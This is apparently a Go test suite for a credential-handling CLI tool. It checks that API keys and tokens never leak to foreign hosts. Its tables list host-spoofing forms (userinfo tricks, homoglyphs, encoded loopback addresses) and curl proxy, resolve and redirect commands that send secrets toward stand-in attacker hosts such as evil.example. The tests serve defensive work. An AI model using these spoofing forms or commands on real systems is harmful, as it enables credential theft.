package cmd_test

import (
	"bytes"
	"context"
	"encoding/base64"
	"fmt"
	"net/http"
	"net/url"
	"slices"
	"strings"
	"testing"
	"time"

	"immersve-doctor/cmd"
	"immersve-doctor/diagnose/send/sendtest"
)

// The credentials of the user, and of a capture, and the value of a variable.
const (
	ownKey    = "imm-key-test-a01e97caa7f72e35f6f2f3f266034a00a57a38ad39a6f5ec7e58c30a2e430b4a"
	ownSecret = "imm-secret-test-b02f7a1eb7e1fee25cec2966fcbb571f3928ed2f6f6d009765c36c567de44e73"
	ownToken  = "eyJhbGciOiJSUzI1NiIsInR5cCI6IkpXVCJ9.eyJzdWIiOiI3YmM0NjEyNDc2YzBlZmVjIiwiZXhwIjo0MTAyNDQ0ODAwfQ.n0G9W8uw8de9puyHB9d3xvEpg3mKBxfQ"
	variable  = "tr0ub4dor-Zq81x"
)

// hostForm is a way to write a host. Where it leads is the network's affair.
type hostForm struct {
	authority string
	kind      string // home, here, or "" for a stranger
}

// hostForms are the forms of names and addresses, foreign ones that look like home
// above all.
var hostForms = []hostForm{
	{"test.immersve.com", "home"},
	{"TEST.Immersve.COM", "home"},
	{"test.immersve.com.", "home"},
	{"test.immersve.com:443", "home"},
	{"api.immersve.com", "home"},
	{"test.immersve.com:8080", "home"},
	{"localhost", "here"},
	{"LOCALHOST:4010", "here"},
	{"evil.localhost", "here"},
	{"Evil.LocalHost:80", "here"},
	{"127.0.0.1", "here"},
	{"127.9.9.9:4010", "here"},
	{"[::1]", "here"},
	{"[::1]:4010", "here"},
	{"[::ffff:127.0.0.1]", "here"},
	{"[0:0:0:0:0:0:0:1]", "here"},
	{"evil.localhost.", ""},
	{"localhost.", ""},
	{"127.0.0.1.evil.example", ""},
	{"localhost.evil.example", ""},
	{"127.0.0.300", ""},
	{"127.0.0.1.", ""},
	{"127.1", ""},
	{"2130706433", ""},
	{"0x7f000001", ""},
	{"0x7f.0.0.1", ""},
	{"0177.0.0.1", ""},
	{"127.0.0.01", ""},
	{"0.0.0.0", ""},
	{"[::]", ""},
	{"[::ffff:203.0.113.66]", ""},
	{"[2001:db8::66]", ""},
	{"203.0.113.66", ""},
	{"evil.example", ""},
	{"evil.example:443", ""},
	{"test.immersve.com.evil.example", ""},
	{"test.immersve.com@evil.example", ""},
	{"test.immersve.com:443@evil.example", ""},
	{"127.0.0.1@evil.example", ""},
	{"evil.example:x@test.immersve.com", ""},
	{`evil.example\@test.immersve.com`, ""},
	{"evil.example#@test.immersve.com", ""},
	{"evil.example?@test.immersve.com", ""},
	{"test.immersve.com%2eevil.example", ""},
	{"test.immersve.com%00.evil.example", ""},
	{"test.immersve.com%2f.evil.example", ""},
	{"test.immersve.com;.evil.example", ""},
	{"testimmersve.com", ""},
	{"test-immersve.com", ""},
	{"docs.immersve.com", ""},
	{"x.test.immersve.com", ""},
	{"xn--tst-immersve-9fb.com", ""},
	{"tеst.immersve.com", ""},
	{"ｔest.immersve.com", ""},
	{"ⓛocalhost", ""},
	{"localhost。", ""},
	{"127。0。0。1", ""},
	{"localhost:80:80", ""},
	{"host.docker.internal", ""},
}

// trial is one run of a command.
type trial struct {
	name  string
	args  []string
	proxy string // of the environment's variables
	place hostForm
	sure  bool // credentials must arrive where they belong
}

// trials makes the table: commands, schemes, hostForms, proxies and flags.
func trials(t *testing.T, cacert string) (list []trial) {
	dir := t.TempDir()
	n := 0
	file := func(content string) string {
		n++
		return write(dir, fmt.Sprintf("capture-%d", n), content)
	}
	own := []string{"-H", "x-api-key: " + ownKey, "-H", "x-api-secret: " + ownSecret}
	headers := "x-api-key: " + ownKey + "\nx-api-secret: " + ownSecret + "\n"
	har := func(u string) string {
		return `{"log":{"version":"1.2","creator":{"name":"x","version":"1"},"entries":[{"startedDateTime":"2026-11-23T10:44:12Z","time":1,"request":{"method":"GET","url":` + quoteJSON(u) +
			`,"httpVersion":"HTTP/1.1","headers":[{"name":"x-api-key","value":"masked…"},{"name":"x-api-secret","value":"masked…"}],"queryString":[],"cookies":[],"headersSize":-1,"bodySize":0},` +
			`"response":{"status":403,"statusText":"","httpVersion":"HTTP/1.1","headers":[],"cookies":[],"content":{"size":2,"mimeType":"application/json","text":"{}"},"redirectURL":"","headersSize":-1,"bodySize":2},"cache":{},"timings":{"send":0,"wait":1,"receive":0}}]}}`
	}
	postman := func(u string) string {
		return `{"info":{"name":"x","schema":"https://schema.getpostman.com/json/collection/v2.1.0/collection.json"},"item":[{"name":"a","request":{"method":"GET","url":` + quoteJSON(u) + `}}]}`
	}
	variables := file(`{"name":"x","values":[{"key":"password","value":"` + variable + `","enabled":true},{"key":"api_secret","value":"` + ownSecret + `","enabled":true}]}`)
	commands := map[string]func(base string) []string{
		"call":         func(b string) []string { return []string{"call", "GET", b + "/api/cards/x"} },
		"call --env":   func(b string) []string { return []string{"call", "list-currencies", "--env", b} },
		"call --probe": func(b string) []string { return []string{"call", "get-card", "cardId=x", "--probe", "--env", b} },
		"curl":         func(b string) []string { return append([]string{"curl", b + "/api/cards/x"}, own...) },
		"curl --probe": func(b string) []string { return append([]string{"--probe", "curl", b + "/api/cards/x"}, own...) },
		"curl -u":      func(b string) []string { return []string{"curl", b + "/api/cards/x", "-u", "user:" + ownSecret} },
		"curl body": func(b string) []string {
			return []string{"curl", b + "/auth/token", "-d", `{"refreshToken":"` + ownToken + `"}`}
		},
		"curl query": func(b string) []string { return []string{"curl", b + "/x?token=" + ownToken} },
		"replay command": func(b string) []string {
			return []string{"replay", file("curl " + quoteShell(b+"/api/cards/x") + " -H 'x-api-key: a'")}
		},
		"replay kept": func(b string) []string {
			return []string{"replay", "--keep-credentials", file("GET " + b + "/api/cards/x HTTP/1.1\n" + headers + "\n")}
		},
		"replay HAR":         func(b string) []string { return []string{"replay", file(har(b + "/api/cards/x"))} },
		"replay HAR --probe": func(b string) []string { return []string{"replay", "--probe", file(har(b + "/api/cards/x"))} },
		"replay .http": func(b string) []string {
			return []string{"replay", file("### a\nGET " + b + "/api/cards/x\nx-api-key: a\n")}
		},
		"replay Postman": func(b string) []string {
			return []string{"replay", "--environment", variables, file(postman(b + "/api/cards/x"))}
		},
		"replay variable path": func(b string) []string {
			return []string{"replay", "--environment", variables, file(postman(b + "/{{password}}/{{api_secret}}"))}
		},
		"replay variable host": func(b string) []string {
			return []string{"replay", "--environment", variables, file(postman(strings.Replace(b, "://", "://{{password}}.", 1) + "/x"))}
		},
		"replay host header": func(b string) []string {
			return []string{"replay", file("GET " + b + "/api/cards/x HTTP/1.1\nhost: evil.example\nx-api-key: a\n\n")}
		},
		"replay --env": func(b string) []string {
			return []string{"replay", "--env", b, file("curl https://test.immersve.com/api/cards/x -H 'x-api-key: a'")}
		},
		"check": func(b string) []string { return []string{"check", "--env", b} },
		"diagnose --probe": func(b string) []string {
			return []string{"--probe", file("GET " + b + "/api/cards/x HTTP/1.1\n" + headers + "\nHTTP/1.1 403 Forbidden\n\n{}")}
		},
	}
	proxies := []string{"", "http://evil.example:3128", "https://evil.localhost.:3128", "socks5://203.0.113.66:1080", "http://" + sendtest.Tunnel + ":3128"}
	i := 0
	for _, command := range slices.Sorted(mapsKeys(commands)) {
		for _, scheme := range []string{"https://", "http://"} {
			for _, place := range hostForms {
				base := commands[command](scheme + place.authority)
				var variants [][]string
				at := len(base)
				switch {
				case strings.Contains(command, "curl"):
					at = slices.Index(base, "curl") + 1
					host, port, _ := strings.Cut(strings.TrimPrefix(place.authority, "["), ":")
					variants = [][]string{
						nil,
						{"-k"},
						{"-L"},
						{"-x", proxies[1+i%4]},
						{"-k", "-x", proxies[1+i%4]},
						{"--connect-to", "::evil.example:"},
						{"-k", "--connect-to", "::[2001:db8::66]:"},
						{"-k", "--resolve", host + ":443:203.0.113.66", "--resolve", host + ":80:203.0.113.66", "--resolve", host + ":" + port + ":203.0.113.66"},
						{"-H", "Host: evil.example"},
					}
				case command == "diagnose --probe":
					variants = [][]string{nil}
				default:
					variants = [][]string{nil, {"-k"}, {"--allow-host", "other.example"}}
				}
				flags := variants[i%len(variants)]
				proxy := proxies[i/2%len(proxies)]
				if strings.Contains(command, "curl") {
					base = slices.Insert(base, at, flags...)
					base = append([]string{"--cacert", cacert}, base...)
				} else {
					base = append(base, flags...)
					if command != "diagnose --probe" {
						base = append(base, "--cacert", cacert)
					}
				}
				home := place.kind == "home" && scheme == "https://" && !strings.HasSuffix(place.authority, ":8080")
				here := place.kind == "here" && scheme == "http://"
				list = append(list, trial{
					name: fmt.Sprintf("%s %s%s, proxy %q, flags %q", command, scheme, place.authority, proxy, flags), args: base, proxy: proxy, place: place,
					sure: (home || here) && len(flags) == 0 && !strings.Contains(command, "variable") && !strings.Contains(command, "host header") &&
						(home && oneOf(proxy, "", "http://"+sendtest.Tunnel+":3128") && command != "diagnose --probe" || here && !strings.Contains(command, "curl -u")),
				})
				i++
			}
		}
	}
	return list
}

func oneOf(s string, list ...string) bool { return slices.Contains(list, s) }

func mapsKeys[V any](m map[string]V) func(func(string) bool) {
	return func(yield func(string) bool) {
		for k := range m {
			if !yield(k) {
				return
			}
		}
	}
}

func quoteJSON(s string) string {
	return `"` + strings.ReplaceAll(strings.ReplaceAll(s, `\`, `\\`), `"`, `\"`) + `"`
}

func quoteShell(s string) string { return "'" + s + "'" }

// carries reports whether a record contains a credential, plainly or encoded.
func carries(record string) bool {
	for _, c := range []string{ownKey, ownSecret, ownToken, variable} {
		for _, form := range []string{c, strings.ToLower(c), url.QueryEscape(c), base64.StdEncoding.EncodeToString([]byte("user:" + c))} {
			if strings.Contains(record, form) {
				return true
			}
		}
	}
	return false
}

// attempt runs a command in the network.
func attempt(t *testing.T, n *sendtest.Network, args []string, proxy string) (status int, said string) {
	t.Helper()
	settings := map[string]string{"IMMERSVE_API_KEY": ownKey, "IMMERSVE_API_SECRET": ownSecret}
	var out, err bytes.Buffer
	ctx, cancel := context.WithTimeout(t.Context(), 20*time.Second)
	defer cancel()
	status = cmd.Run(ctx, args, cmd.Environment{
		In: strings.NewReader(""), Out: &out, Err: &err, Now: time.Now, Network: n,
		Getenv:     func(name string) string { return settings[name] },
		Interrupts: func(ctx context.Context) (context.Context, context.CancelFunc) { return context.WithCancel(ctx) },
		Proxy: func(*http.Request) (*url.URL, error) {
			if proxy == "" {
				return nil, nil
			}
			return url.Parse(proxy)
		},
	})
	return status, out.String() + err.String()
}

func forbidden(w http.ResponseWriter, _ *http.Request) {
	w.WriteHeader(http.StatusForbidden)
	fmt.Fprint(w, `{"statusCode":403,"errorCode":"FORBIDDEN","reason":"Unauthorized"}`)
}

// No byte of a credential reaches anybody but Immersve's hosts over TLS and this
// machine, whatever command, URL, capture, proxy, flag and redirect come together.
func TestNoCredentialReachesAStranger(t *testing.T) {
	n := sendtest.New(t)
	n.Home, n.Here, n.Away = forbidden, forbidden, forbidden
	cacert := write(t.TempDir(), "ca.pem", string(n.CACert()))
	list := trials(t, cacert)
	sent, refused, sure := 0, 0, 0
	for _, trial := range list {
		status, said := attempt(t, n, trial.args, trial.proxy)
		taken := n.Take()
		if status == 70 {
			t.Errorf("%s: %s", trial.name, said)
		}
		if carries(taken.Foreign.String()) || carries(strings.Join(taken.Names, " ")) {
			t.Errorf("%s: status %d; a stranger got\n%s\nnames %q", trial.name, status, taken.Foreign.String(), taken.Names)
		}
		if trial.place.kind == "here" && slices.ContainsFunc(taken.Names, func(name string) bool {
			return strings.Contains(strings.ToLower(name), "localhost") && !strings.HasSuffix(name, ".")
		}) {
			t.Errorf("%s: resolved %q", trial.name, taken.Names)
		}
		if status == 5 {
			refused++
			if taken.Home.Len()+taken.Loopback.Len()+taken.Foreign.Len() > 0 {
				t.Errorf("%s: refused after something was sent", trial.name)
			}
		}
		arrived := carries(taken.Home.String()) || carries(taken.Loopback.String())
		if arrived {
			sent++
		}
		if trial.sure {
			if sure++; !arrived {
				t.Errorf("%s: status %d; the credentials didn't arrive: %s", trial.name, status, said)
			}
		}
	}
	t.Logf("%d combinations: %d refused, in %d credentials reached their host, which %d had to", len(list), refused, sent, sure)
	if len(list) < 1000 || sure < 50 || refused < 500 {
		t.Error("the table has lost its rows")
	}
}

// Redirects from Immersve and from this machine to every place, by every status.
func TestNoRedirectTakesACredentialAlong(t *testing.T) {
	n := sendtest.New(t)
	cacert := write(t.TempDir(), "ca.pem", string(n.CACert()))
	rows, arrived := 0, 0
	for i, from := range []string{"https://test.immersve.com", "http://127.0.0.1:4010", "http://evil.localhost", "http://[::1]"} {
		for j, scheme := range []string{"http://", "https://", "//", `\\`, "http:/", "HTTP://"} {
			for k, to := range hostForms {
				rows++
				step := func(w http.ResponseWriter, r *http.Request) {
					if strings.HasPrefix(r.URL.Path, "/landed") {
						return
					}
					w.Header().Set("Location", scheme+to.authority+"/landed")
					w.WriteHeader([]int{301, 302, 303, 307, 308}[(i+j+k)%5])
				}
				n.Home, n.Here = step, step
				args := []string{"--cacert", cacert, "curl", "-L", "--location-trusted", from + "/api/cards", "-H", "x-api-key: " + ownKey, "-H", "x-api-secret: " + ownSecret}
				if k%3 == 0 {
					args = append(args, "-d", `{"refreshToken":"`+ownToken+`"}`, "-u", "user:"+ownSecret)
				}
				status, said := attempt(t, n, args, "")
				taken := n.Take()
				if carries(taken.Foreign.String()) || status == 70 {
					t.Errorf("%s to %s%s: status %d %s; a stranger got\n%s", from, scheme, to.authority, status, said, taken.Foreign.String())
				}
				if carries(taken.Home.String()) || carries(taken.Loopback.String()) {
					arrived++
				}
			}
		}
	}
	t.Logf("%d redirects", rows)
	if arrived != rows {
		t.Errorf("credentials reached the first host in %d of %d", arrived, rows)
	}
}

// The table can fail: what --allow-host allows is recorded, however it travels.
func TestTheNetworkReadsAlong(t *testing.T) {
	n := sendtest.New(t)
	for _, args := range [][]string{
		{"--allow-host", "evil.example", "curl", "http://evil.example/x"},
		{"--allow-host", "evil.example", "curl", "-k", "https://evil.example/x"},
		{"--allow-host", "127.0.0.300", "curl", "-k", "http://127.0.0.300/x"},
		{"--allow-host", "test.immersve.com,evil.example", "curl", "-k", "-x", "http://evil.example:1", "https://test.immersve.com/x"},
		{"--allow-host", "test.immersve.com,evil.example", "curl", "-k", "-x", "socks5://evil.example:1", "https://test.immersve.com/x"},
		{"--allow-host", "test.immersve.com,203.0.113.66", "curl", "-k", "--resolve", "test.immersve.com:443:203.0.113.66", "https://test.immersve.com/x"},
		{"--allow-host", "evil.example", "curl", "--connect-to", "::evil.example:", "http://127.0.0.1/x"},
		{"--allow-host", "evil.example", "curl", "-x", "http://evil.example:1", "http://127.0.0.1/x"},
	} {
		status, said := attempt(t, n, append(args, "-H", "x-api-secret: "+ownSecret), "")
		if taken := n.Take(); !carries(taken.Foreign.String()) {
			t.Errorf("%q: status %d: %s\nnot recorded: %s", args, status, said, taken.Foreign.String())
		}
	}
}
